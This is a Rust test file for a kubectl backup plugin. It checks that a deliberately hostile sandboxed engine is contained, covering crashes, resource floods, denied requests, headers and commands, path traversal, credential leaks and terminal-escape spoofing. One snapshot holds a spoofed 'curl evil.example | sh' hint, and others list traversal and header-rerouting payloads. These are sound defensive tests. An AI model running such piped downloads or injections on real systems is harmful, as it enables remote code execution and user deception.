//! Misbehaving engines: the host survives, names the engine and its fault, and exits with 14.

use insta::assert_snapshot;
use serde_json::json;

use crate::support::{Bed, Component, Invocation, Machine, accepting, module, programs};

fn misbehave(how: &str) -> String {
    Bed::start().misbehave(how).shown()
}

#[test]
fn an_engine_that_behaves_works() {
    assert_snapshot!(misbehave("not-at-all"), @"
    stdout:
    ID   NOTE
    harmless   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    1 backup
    exit 0
    ");
}

#[test]
fn options_of_an_engine_are_flags() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .run("backup list --engine acme/hostile --misbehave echo --amount -3 --loudly --limit 7");
    assert_snapshot!(run.shown(), @"
    stdout:
    ID   NOTE
    limit=Some(7) misbehave=text echo amount=integer -3 loudly=boolean true   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    1 backup
    exit 0
    ");
    let run = bed.hostile().run("backup list --engine hostile");
    assert_snapshot!(run.shown(), @"
    stdout:
    ID   NOTE
    harmless   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    1 backup
    exit 0
    ");
    let run = bed
        .hostile()
        .run("backup list --engine hostile --amount lots");
    assert_snapshot!(run.shown(), @"
    stderr:
    error: invalid value 'lots' for '--amount <AMOUNT>': invalid digit found in string

    For more information, try '--help'.
    exit 2
    ");
}

#[test]
fn an_engine_that_panics() {
    assert_snapshot!(misbehave("panic"), @r"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile broke down in `list`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: the vault \u{1b}[2J is on fire)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_panics_with_json_output() {
    let run = Bed::start()
        .hostile()
        .run("backup list --engine hostile --misbehave panic -o json");
    let error = run.error();
    assert_eq!(
        (&error["code"], &error["exitCode"]),
        (&json!("PluginFault"), &json!(14))
    );
    let message = error["message"].as_str().expect("a message");
    assert!(
        message.contains("the vault \\u{1b}[2J is on fire"),
        "{message}"
    );
}

#[test]
fn an_engine_that_exits() {
    assert_snapshot!(misbehave("exit"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile broke down in `list`: it ended its own process
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

/// The test takes as long as an engine may compute: ten seconds.
#[test]
fn an_engine_that_loops() {
    assert_snapshot!(misbehave("loop"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    warning: engine acme/hostile: about to loop
    error: engine acme/hostile was stopped in `list`: it computed for more than 10 s
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_recurses_without_end() {
    assert_snapshot!(misbehave("recurse"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile broke down in `list`: it accessed memory that it does not have, perhaps by recursing without end
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_wants_all_memory() {
    assert_snapshot!(misbehave("allocate"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile was stopped in `list`: it wanted more than 256 MiB of memory
    hint: Report it to the engine's author; if the engine needs more memory, allow it with `--engine-memory`
    exit 14
    ");
}

#[test]
fn a_time_that_is_none_is_left_out_and_told() {
    assert_snapshot!(misbehave("bad-time"), @r#"
    stdout:
    ID   NOTE
    x   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    warning: engine acme/hostile: the creation time of "x" is no RFC 3339 time and is left out: "yesterday \u{1b}[2J"
    1 backup
    exit 0
    "#);
}

#[test]
fn an_engine_that_returns_an_impossible_id() {
    assert_snapshot!(misbehave("no-id"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 0 bytes (1 to 4096 can be)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(misbehave("long-id"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile returned something unusable from `list`: a backup whose id has 5000 bytes (1 to 4096 can be)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_what_is_no_text() {
    assert_snapshot!(misbehave("not-text"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile broke down in `list`: invalid utf-8 sequence of 1 bytes from index 1
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn an_engine_that_returns_a_field_it_has_not_declared() {
    assert_snapshot!(misbehave("undeclared-field"), @r#"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile returned something unusable from `list`: a field that its manifest does not name: "secret"
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    "#);
}

#[test]
fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
    assert_snapshot!(misbehave("hostile-error"), @r"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
    hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
    exit 1
    ");
}

#[test]
fn requests_that_the_manifest_does_not_ask_for_are_denied_and_never_sent() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-route").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not allow `GET /v1/admin` on endpoint `api`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-endpoint").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: the manifest names no endpoint `kubernetes`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-method").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not allow `POST /v1/backup/list-remote` on endpoint `api`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("denied-header").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: no engine may send the header `Authorization`: it belongs to the host, or it can make another request of this one
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("other-path").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile says: the name can't be a segment of a path: it is empty, a dot segment, too long, or has a slash or a control character
    exit 2
    ");
    assert_eq!(bed.backend_requests().count("*", ""), 0);
}

#[test]
fn headers_that_the_manifest_does_not_name_are_denied_and_those_that_reroute_always() {
    let bed = Bed::start();
    for name in [
        "X-Request-Id",
        "X-HTTP-Method-Override",
        "X-Original-URL",
        "x-rewrite-url",
        "transfer_encoding",
        "Impersonate-User",
        "X-Forwarded-Host",
    ] {
        let run = bed.hostile().run(&format!(
            "backup list --engine hostile --misbehave header:{name} -o json"
        ));
        assert_eq!(run.error()["exitCode"], 14, "{name}");
        let message = run.error()["message"].to_string();
        assert!(
            message.contains("not granted") && message.contains(name),
            "{message}"
        );
    }
    assert_eq!(bed.misbehave("denied-query").code, 14);
    assert_eq!(bed.backend_requests().count("*", ""), 0);
    assert_snapshot!(bed.misbehave("header:X-Request-Id").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: the manifest does not name the header `X-Request-Id` for endpoint `api`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    // The manifest names the first header, and every engine may send the second.
    for name in ["x-trace-id", "Accept"] {
        let run = bed.misbehave(&format!("header:{name}"));
        assert_eq!(run.code, 0, "{}", run.stderr);
    }
}

#[test]
fn an_engine_that_calls_or_sends_without_end_is_stopped() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-flood").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile was stopped in `list`: it called the host more than 10000 times
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("send-flood").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile was stopped in `list`: it sent more than 64 MiB
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn a_flood_of_warnings_is_cut_and_counted() {
    let run = misbehave("warn-flood");
    assert_eq!(
        run.lines()
            .filter(|line| line.starts_with("warning: "))
            .count(),
        21
    );
    assert!(
        run.contains("warning: engine acme/hostile: warning 19\n"),
        "{run}"
    );
    assert!(!run.contains("warning 20\n"), "{run}");
    assert!(
        run.contains("warning: engine acme/hostile: 99980 more warnings are left out"),
        "{run}"
    );
}

/// Installs an engine in a separate store, and returns the output.
fn installing(component: &Component) -> String {
    let machine = Machine::new();
    machine.put("engine.wasm", component);
    let refused = machine.run("plugin install engine.wasm");
    if !refused.stderr.contains("--accept-capabilities") {
        return refused.shown();
    }
    let command = format!("plugin install engine.wasm {}", accepting(&refused));
    machine.run(&command).shown()
}

#[test]
fn all_memories_of_an_engine_share_one_limit() {
    // The memories have 8 times 64 MiB.
    let many = Component::small().with_memories(8, 1024);
    let shown = installing(&many);
    let reason = "error: engine acme/small was stopped while it starts: it wanted more than 256 MiB of memory";
    assert!(
        shown.contains(reason) && shown.ends_with("exit 14"),
        "{shown}"
    );
    let few = Component::small().with_memories(2, 1024);
    assert!(installing(&few).ends_with("exit 0"));
}

#[test]
fn an_engine_that_is_too_large_is_not_compiled() {
    let functions = vec![vec![0x01; 1 << 20]];
    let large = Component::small().with_modules([module(0, &functions).as_slice()]);
    let shown = installing(&large);
    let reason =
        "error: engine acme/small is too large to be compiled: a function of it has 1048580 bytes";
    assert!(
        shown.contains(reason) && shown.ends_with("exit 14"),
        "{shown}"
    );
    let functions = vec![Vec::new(); 200_001];
    let large = Component::small().with_modules([module(0, &functions).as_slice()]);
    let shown = installing(&large);
    let reason =
        "error: engine acme/small is too large to be compiled: it has more than 200000 functions";
    assert!(
        shown.contains(reason) && shown.ends_with("exit 14"),
        "{shown}"
    );
}

/// The test compiles one function with many loops and many variables: the compiler's work grows with their
/// product.
#[test]
fn compiling_ends_when_it_takes_more_than_it_may() {
    let byte = |n: usize| u8::try_from(n).expect("a byte");
    let variable = |n: usize| [0x80 | byte(n & 0x7f), byte(n >> 7)];
    let mut instructions = Vec::new();
    for n in 0..40_000 {
        let (to, from) = (variable(n % 1000), variable((n * 7 + 1) % 1000));
        instructions.extend([&[0x03, 0x40, 0x20][..], &from, &[0x21], &to].concat());
        instructions.extend([&[0x20][..], &to, &[0x0d, 0x00, 0x0b]].concat());
    }
    let costly = Component::small().with_modules([module(1000, &[instructions]).as_slice()]);
    let shown = installing(&costly);
    // The limit that is reached first depends on the machine.
    assert!(
        shown.contains("error: engine acme/small can't be compiled: that takes more than "),
        "{shown}"
    );
    assert!(shown.ends_with("exit 14"), "{shown}");
}

#[test]
fn the_compiler_process_says_nothing_to_those_who_start_it_by_hand() {
    let programs = programs();
    let program = Invocation::new(&programs.kubectl_broker, &programs.folders);
    let run = program.run("compile-engine-from-stdin");
    assert_eq!(
        (run.stdout.as_str(), run.stderr.as_str(), run.code),
        ("", "", 1)
    );
}

#[test]
fn an_engine_that_never_says_whether_its_backend_answers_does_not_hold_up_the_others() {
    let bed = Bed::start();
    let run = bed
        .hostile()
        .engines([&programs().sleep])
        .run("engines -o json");
    let sleep = run.item("acme/sleep");
    assert_eq!(sleep["answers"], "no");
    assert_eq!(
        sleep["detail"],
        "engine acme/sleep did not finish `detect` within 5 s"
    );
    assert_eq!(run.item("kubectl-broker/sidecar")["answers"], "yes");
}

#[test]
fn a_backend_that_hangs_is_left_for_the_next_and_the_user_hears_of_it() {
    let bed = Bed::with(&["sidecar-drip=1"]);
    let run = bed.run("backup list");
    assert_eq!(run.code, 0, "{}", run.stderr);
    for line in [
        "Waiting for engine kubectl-broker/sidecar to say whether its backend answers, for at most 5 s",
        "engine sidecar can't be used here (engine kubectl-broker/sidecar did not finish `detect` within 5 s); trying hivemq",
    ] {
        assert!(run.stderr.lines().any(|it| it == line), "{}", run.stderr);
    }
    // The flag changes the timeout of the wait.
    let run = bed.run("backup list --engine-timeout 2s");
    let note = "for at most 2 s\nengine sidecar can't be used here (";
    assert!(run.stderr.contains(note), "{}", run.stderr);
}

#[test]
fn the_limits_of_engines_are_flags() {
    let bed = Bed::start();
    let run = |how: &str, flag: &str| {
        let command = format!("backup list --engine hostile --misbehave {how} {flag}");
        bed.hostile().run(&command).shown()
    };
    assert_snapshot!(run("allocate", "--engine-memory 64Mi"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile was stopped in `list`: it wanted more than 64 MiB of memory
    hint: Report it to the engine's author; if the engine needs more memory, allow it with `--engine-memory`
    exit 14
    ");
    assert_snapshot!(run("sleep", "--engine-timeout 2s"), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    warning: engine acme/hostile: about to sleep
    error: engine acme/hostile did not finish `list` within 2 s
    hint: The backend or the cluster may be slow: try again, or allow more time with `--engine-timeout`
    exit 124
    ");
    assert_snapshot!(run("not-at-all", "--engine-memory 8Gi"), @"
    stderr:
    error: invalid value '8Gi' for '--engine-memory <SIZE>': it must be 16Mi to 4Gi, such as 512Mi

    For more information, try '--help'.
    exit 2
    ");
    assert_snapshot!(run("not-at-all", "--engine-timeout 0"), @"
    stderr:
    error: invalid value '0' for '--engine-timeout <TIME>': it must be 1s to 24h

    For more information, try '--help'.
    exit 2
    ");
}

#[test]
fn an_engine_that_reads_its_credentials_in_an_answer_does_not_get_it() {
    for (place, more) in [
        ("body", ""),
        ("base64", ""),
        ("header", ""),
        // The body arrives in parts that end within the secret.
        ("body", "hivemq-drip=200"),
    ] {
        let fault = format!("hivemq-echo={place}");
        let faults: Vec<_> = [fault.as_str(), more]
            .into_iter()
            .filter(|it| !it.is_empty())
            .collect();
        let bed = Bed::with(&faults);
        let run = bed
            .program()
            .env("BROKER_PASSWORD", "canary-4711")
            .run("backup list --engine hivemq --username me");
        assert_eq!(run.code, 1, "{place}: {}", run.stderr);
        assert!(
            run.stderr.contains("holds the credentials that were sent"),
            "{}",
            run.stderr
        );
        assert!(
            !run.stderr.contains("canary") && !run.stderr.contains("bWU6"),
            "{}",
            run.stderr
        );
    }
    // Without credentials there is nothing to find.
    let bed = Bed::with(&["hivemq-echo=body"]);
    assert_eq!(bed.run("backup list --engine hivemq").code, 0);
}

#[test]
fn commands_that_the_manifest_does_not_name_are_denied_and_never_run() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("denied-command").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: the manifest names no command `rm`
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("bad-argument").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile says: the folder can't stand in a command: it is empty, has more than 4096 bytes, or has a control character
    exit 2
    ");
    assert_snapshot!(bed.misbehave("option-argument").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile says: the folder begins with a dash, and would be an option
    exit 2
    ");
    assert_snapshot!(bed.misbehave("other-pod").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: `intruder-0` is no running pod of the target
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_snapshot!(bed.misbehave("pod-path").shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile asked for what it was not granted, and says: `broker-0/../../secrets` is no running pod of the target
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 0);
}

#[test]
fn a_command_that_is_named_runs_in_the_default_container_of_a_pod_of_the_target() {
    let bed = Bed::start();
    assert_snapshot!(bed.misbehave("look").shown(), @"
    stdout:
    ID   NOTE
    ran: hivemq   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    1 backup
    exit 0
    ");
    assert_eq!(bed.requests().count("GET", "/exec"), 1);
}

#[test]
fn an_engine_sees_nothing_of_the_system() {
    assert_snapshot!(misbehave("look-around"), @"
    stdout:
    ID   STATE   NOTE
    arguments: 0   Unknown   -
    environment: 0   Unknown   -
    folder: no (NotFound)   Unknown   -
    name: no (Uncategorized)   Unknown   -
    read: no (NotFound)   Unknown   -
    socket: no (PermissionDenied)   Unknown   -
    stdin: Some(0) bytes   Unknown   -
    write: no (NotFound)   Unknown   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    8 backups
    exit 0
    ");
}

#[test]
fn a_long_message_of_an_engine_is_cut() {
    let run = Bed::start().misbehave("long-log");
    assert_eq!(run.code, 0);
    let message = run
        .stderr
        .lines()
        .find(|line| line.contains("a long story"));
    let message = message.expect("the message");
    assert!(
        message.ends_with('…') && message.chars().count() < 3000,
        "{message}"
    );
}

#[test]
fn a_flood_of_output_does_no_harm() {
    assert_snapshot!(misbehave("flood"), @"
    stdout:
    ID   NOTE
    still here   -
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    1 backup
    exit 0
    ");
}

#[test]
fn an_engine_that_breaks_down_in_another_operation() {
    let run = Bed::start()
        .hostile()
        .run("backup status --engine hostile --id x");
    assert_snapshot!(run.shown(), @"
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
    error: engine acme/hostile broke down in `status`: it panicked or aborted (it wrote: thread '<unnamed>' (1) panicked at src/lib.rs:LINE: there is no status)
    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
    exit 14
    ");
}

#[test]
fn the_other_engines_work_beside_a_hostile_one() {
    let bed = Bed::start();
    assert_eq!(bed.hostile().run("backup list -o json").ids().len(), 12);
    assert_snapshot!(bed.hostile().run("engines").shown(), @r"
    stdout:
    NAME   VERSION   OPERATIONS   DEFAULT-FOR   ANSWERS   DETAIL
    kubectl-broker/backuprequest   0.1.0   detect,list,status,create,restore,delete,manifest   -   yes   backup-controller (BackupRequest, LiferayBackup, RestoreRequest)
    kubectl-broker/hivemq   0.1.0   detect,list,status,create,download,restore   -   yes   HiveMQ management API (6 backups)
    kubectl-broker/kafka   0.1.0   detect,list,status,create,restore,delete,offset-reset,offset-rollback,resume,schedule,suspend,validate   -   yes   kafka-backup-operator (no KafkaBackup yet)
    kubectl-broker/sidecar   0.1.0   detect,list,status,restore,delete,metrics,purge,upload   -   yes   broker-backup (3 local backups)
    kubectl-broker/strategy   0.1.0   detect,status,create,download   -   no   nothing listens on port 8000 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1…
    acme/hostile   0.1.0   detect,list,status,create,restore,metrics,say   -   yes   something \u{1b}[31mhostile
    stderr:
    Using StatefulSet broker, namespace messaging of context testbed
    exit 0
    ");
}
